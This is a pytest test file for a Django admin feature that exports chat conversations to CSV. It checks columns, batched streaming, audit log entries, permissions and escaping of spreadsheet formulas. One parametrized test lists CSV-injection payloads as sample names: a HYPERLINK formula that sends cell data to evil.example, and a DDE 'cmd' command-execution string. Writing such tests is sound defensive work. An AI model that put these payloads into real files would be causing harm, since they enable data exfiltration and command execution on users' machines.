"""Conversations as CSV: whole, in little memory, no formula in any cell, and written down in the audit trail."""

import csv
import io
from datetime import timedelta

import pytest
from django.contrib.admin.models import LogEntry
from django.contrib.auth.models import Permission, User
from django.urls import reverse

from chats.admin import csv_export
from chats.admin.csv_export import COLUMNS, escape_cell
from chats.models import Contact, Conversation, Message

pytestmark = pytest.mark.django_db
LIST = reverse("admin:chats_conversation_changelist")


def take(client, *conversations, query="", **more):
    form = {"action": "export", "_selected_action": [row.pk for row in conversations], **more}
    return client.post(LIST + query, form)


def read(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode()
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))


@pytest.fixture
def talk():
    """talk("Мария", state="closed"): a conversation with a question, and an answer after 12.5 seconds."""

    def make(name="Мария", **fields):
        number = Contact.objects.count()
        contact = Contact.objects.create(channel="web", external_id=f"{number:064}", name=name, last_seq=2)
        row = Conversation.objects.create(contact=contact, **fields)
        for seq, author in enumerate(["visitor", "bot"], 1):
            Message.objects.create(contact=contact, conversation=row, seq=seq, author=author, text="…")
        began = row.created_at
        Message.objects.filter(contact=contact, seq=1).update(created_at=began)
        Message.objects.filter(contact=contact, seq=2).update(created_at=began + timedelta(seconds=12.5))
        return row

    return make


def test_a_line_says_what_a_report_is_made_of(admin, talk):
    row = talk(state="closed", operator_name="Олег", handoff_reason="button", closed_by="operator")
    response = take(admin, row)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="conversations-')
    head, line = read(response)
    told = dict(zip(head, line, strict=True))
    assert head == COLUMNS
    assert (told["номер"], told["канал"], told["посетитель"]) == (str(row.pk), "Сайт", "Мария")
    assert (told["состояние"], told["оператор"], told["почему нужен человек"]) == ("закрыт", "Олег", "button")
    assert (told["сообщений"], told["секунд до первого ответа"]) == ("2", "12.5")


def test_what_nobody_has_written_in_has_no_answer(admin):
    contact = Contact.objects.create(channel="web", external_id="a" * 64)
    _, line = read(take(admin, Conversation.objects.create(contact=contact)))
    assert line[-2:] == ["0", ""]


@pytest.mark.parametrize(
    "name",
    ["=1+1", "+7 900", "-2+3", "@SUM(A1)", "\tx", "\rx", "\nx", " =1", "＝1",
     '=HYPERLINK("http://evil.example/?"&A1;"Нажмите")', "=cmd|' /C calc'!A0"],
)  # fmt: skip
def test_a_name_is_never_a_formula(admin, talk, name):
    row = talk(name)
    Conversation.objects.filter(pk=row.pk).update(operator_name=name)
    _, line = read(take(admin, row))
    assert (line[2], line[7]) == (f"'{name}", f"'{name}")


@pytest.mark.parametrize(
    "name", ["Мария", "а;б", '"Кавычки"', "две\nстроки", "7 = 7", "'уже", "<b>&amp;</b>", "a\u202eb"]
)
def test_any_other_name_stays_as_it_is(admin, talk, name):
    _, line = read(take(admin, talk(name)))
    assert (len(line), line[2]) == (len(COLUMNS), name)


def test_numbers_stay_numbers():
    assert [escape_cell(value) for value in (-1, 12.5, "")] == [-1, 12.5, ""]


def test_only_the_chosen_are_in_it(admin, talk):
    chosen, other = talk("Мария"), talk("Иван")
    assert [line[0] for line in read(take(admin, chosen))[1:]] == [str(chosen.pk)]
    assert other.pk != chosen.pk


def test_all_of_a_filtered_list_come_in_batches(admin, talk, monkeypatch, django_assert_max_num_queries):
    closed = [talk(f"Посетитель {number}", state="closed") for number in range(7)]
    talk("Иван", state="waiting")
    monkeypatch.setattr(csv_export, "BATCH", 3)
    response = take(admin, closed[0], query="?state__exact=closed", select_across="1")
    assert response.streaming, "the whole file would stand in memory"
    with django_assert_max_num_queries(3 * 2 + 1):  # three batches, and a look that finds no more
        lines = read(response)
    assert [line[0] for line in lines[1:]] == [str(row.pk) for row in closed]


def test_it_is_written_down_who_took_which(admin, talk):
    row = talk()
    take(admin, row)
    take(admin, row, query="?state__exact=bot", select_across="1")
    told = [
        (entry.user.username, entry.object_repr, entry.change_message)
        for entry in LogEntry.objects.order_by("pk")
    ]
    assert told == [
        ("boss", "диалоги", f"Выгружены в CSV: №{row.pk}."),
        ("boss", "диалоги", "Выгружены в CSV: все, отбор «state__exact=bot»."),
    ]
    assert admin.get(reverse("admin:admin_logentry_changelist")).status_code == 200


def test_somebody_who_may_only_read_cannot_take_it(client, talk):
    reader = User.objects.create_user("reader", is_staff=True)
    reader.user_permissions.set(Permission.objects.filter(codename__startswith="view_"))
    client.force_login(reader)
    assert "Content-Disposition" not in take(client, talk()).headers
    assert not LogEntry.objects.exists()
